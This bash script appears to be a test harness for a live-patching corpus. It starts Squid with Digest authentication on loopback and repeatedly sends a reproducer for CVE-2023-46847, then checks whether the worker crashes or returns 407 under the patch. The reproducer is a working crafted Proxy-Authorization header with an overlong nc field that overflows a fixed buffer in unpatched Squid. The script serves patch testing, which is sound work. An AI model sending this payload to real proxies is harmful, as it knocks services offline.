#!/bin/bash
# squid, the real service (program mode, tests/corpus/README.md): the squid
# binary built from the tree, started as root as its unit does (it switches
# to cache_effective_user itself), as a forward proxy on loopback that
# requires HTTP Digest authentication (auth_param digest with the tree's
# own digest_file_auth helper and a local password file), in front of a
# small origin server (origin.py: GET /obj/N answers "object N").
#
# `squid --foreground` is the master process; it forks the worker
# (squid-1) that serves, and forks a new one when a worker dies. DIR/pids
# names the master only (a worker killed by the reproducer is replaced, and
# the runner checks that every pid in DIR/pids survives); the case loads
# with ALL=yes, `xsplice load --all --tree MASTER`: the master and its
# worker (the digest helpers are another program).
#
# Reproducer (CVE-2023-46847, mode digest-nc): a Digest Proxy-Authorization
# whose nc (nonce count: 8 hex digits, kept in char nc[9]) is 64 characters
# long, after the other fields. Unpatched, Auth::Digest::Config::decode
# copies all of it into nc[9] and over the pointers that follow (pszMethod,
# qop, uri, response, ...); the checks after the parse dereference one and
# the worker dies by a signal ("crash (worker killed by signal N ...)", from
# the worker's own "FATAL: Received Segment Violation...dying." in
# cache.log). Patched, the value is
# ignored (nc emptied), the request fails the nonce-count check and gets
# 407 ("rejected 407").
# Load: authenticated requests (curl --proxy-digest, a fresh nonce each)
# for origin objects; right when the body is the object's.
#
# The drive loop is this script's own (not prog-lib's concurrent one): the
# reproducer kills the worker before the patch, and load requests sent to a
# dying worker would count as wrong answers. So each round is sequential:
# reproducer; after a crash, wait for the master's new worker (not counted);
# then a load batch. Under the patch no worker dies and the load is
# continuous.
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
source "$here/prog-lib.sh"

# A worker that takes a fatal signal logs "FATAL: Received Segment
# Violation...dying." in cache.log (its handler) before it aborts; the
# master's own "exited due to signal" goes to syslog, not cache.log.
deaths() { grep -c 'FATAL: Received .*dying' "$1/var/cache.log" 2>/dev/null || true; }
signo_of() { # the signal number of squid's "Received ... dying" wording
	case "$1" in
	*"Segment Violation"*) echo 11 ;;
	*"Bus Error"*) echo 7 ;;
	*"Illegal Instruction"*) echo 4 ;;
	*) echo "? ($1)" ;;
	esac
}

get_obj() { # get_obj DIR N: an authenticated request for object N; right?
	local dir=$1 body
	body=$(curl -s --max-time 5 --proxy-digest -U alice:secret -x "127.0.0.1:$(cat "$dir/port")" \
		"http://127.0.0.1:$(cat "$dir/origin.port")/obj/$2" 2>/dev/null)
	[ "$body" = "object $2" ]
}

prog_start() {
	local tree=$1 dir=$2 port oport
	[ "${3:-digest-nc}" = digest-nc ] || { echo "unknown mode $3"; return 1; }
	port=$(free_port) oport=$(free_port)
	echo "$port" >"$dir/port"
	echo "$oport" >"$dir/origin.port"
	mkdir -p "$dir/var"
	chown nobody:nogroup "$dir/var"
	python3 "$here/origin.py" "$oport" >"$dir/origin.log" 2>&1 &
	echo $! >"$dir/aux-pids"
	wait_for 10 curl -sf "http://127.0.0.1:$oport/obj/0" || { echo "origin does not answer"; return 1; }
	printf 'alice:secret\n' >"$dir/passwd"
	chmod 644 "$dir/passwd"
	cat >"$dir/squid.conf" <<CFG
http_port 127.0.0.1:$port
visible_hostname xsplice-corpus
pid_filename $dir/var/squid.pid
cache_log $dir/var/cache.log
access_log stdio:$dir/var/access.log
cache_store_log none
coredump_dir $dir/var
cache_effective_user nobody
cache_effective_group nogroup
pinger_enable off
mime_table $tree/src/mime.conf.default
error_directory $tree/errors/templates
icon_directory $tree/icons/silk
unlinkd_program $tree/src/unlinkd
netdb_filename none
cache deny all
cache_mem 8 MB
max_filedescriptors 1024
workers 1
hopeless_kid_revival_delay 1 second
shutdown_lifetime 1 second
auth_param digest program $tree/src/auth/digest/file/digest_file_auth $dir/passwd
auth_param digest children 2 startup=1 idle=1
auth_param digest realm xsplice
auth_param digest nonce_strictness off
acl authed proxy_auth REQUIRED
http_access allow authed
http_access deny all
CFG
	"$tree/src/squid" -f "$dir/squid.conf" --foreground >"$dir/squid.log" 2>&1 </dev/null &
	local master=$! worker
	echo "$master" >"$dir/pids"
	wait_for 60 get_obj "$dir" 0 ||
		{ echo "squid does not answer on $port"; tail -n 20 "$dir/var/cache.log"; return 1; }
	worker=$(pgrep -P "$master" -f squid | head -n 1)
	[ -n "$worker" ] || { echo "squid forked no worker"; return 1; }
	echo "squid master $master, worker $worker on 127.0.0.1:$port, origin on $oport"
}

repro_once() {
	local dir=$1 oport code d0 sig
	oport=$(cat "$dir/origin.port")
	d0=$(deaths "$dir")
	code=$(curl -s -o /dev/null --max-time 5 -w '%{http_code}' -x "127.0.0.1:$(cat "$dir/port")" \
		-H "Proxy-Authorization: Digest username=\"alice\", realm=\"xsplice\", nonce=\"MTIzNDU2Nzg5MDEyMzQ1Ng\", uri=\"http://127.0.0.1:$oport/obj/1\", qop=auth, cnonce=\"0a4f113b\", response=\"6629fae49393a05397450978507c4ef1\", nc=$(printf '0%.0s' $(seq 64))" \
		"http://127.0.0.1:$oport/obj/1" 2>/dev/null)
	# The master logs a worker's death as soon as it reaps it.
	for _ in $(seq 20); do [ "$(deaths "$dir")" != "$d0" ] && break; sleep 0.05; done
	if [ "$(deaths "$dir")" != "$d0" ]; then
		sig=$(signo_of "$(grep 'FATAL: Received .*dying' "$dir/var/cache.log" | tail -n 1)")
		echo "crash (worker killed by signal $sig, restarted by the master)"
		wait_for 30 get_obj "$dir" 0
	elif [ "$code" = 407 ]; then
		echo "rejected 407"
	else
		echo "answered ${code:-nothing}"
	fi
}

load_batch() {
	local dir=$1 ok=0 bad=0
	for _ in 1 2 3 4; do
		if get_obj "$dir" "$((RANDOM % 1000 + 1))"; then ok=$((ok + 1)); else bad=$((bad + 1)); fi
	done
	echo "$ok $bad"
}

# Sequential rounds (see above), the lines prog_drive prints. After a
# crash the new worker serves load for 11 s before the next reproducer (2 s
# after any other answer):
# squid's master gives up on a worker that died within 10 s of its start
# more than 4 times in a row (ipc/Kid.cc, "hopeless") and then exits.
prog_drive() {
	local dir=$1 mode=$2 ok=0 bad=0 r o b t0
	while :; do
		t0=$SECONDS
		r=$(repro_once "$dir" "$mode" 2>>"$dir/repro.err")
		while :; do
			read -r o b < <(load_batch "$dir" "$mode")
			ok=$((ok + ${o:-0})) bad=$((bad + ${b:-1}))
			# otherwise 2 s of load a round (the patched worker's)
			if [[ "$r" == crash* ]]; then [ $((SECONDS - t0)) -lt 11 ] || break
			else [ $((SECONDS - t0)) -lt 2 ] || break; fi
		done
		echo "repro: ${r:-no result}  load: $ok ok, $bad bad"
		sleep 0.1
	done
}

prog_main "$@"
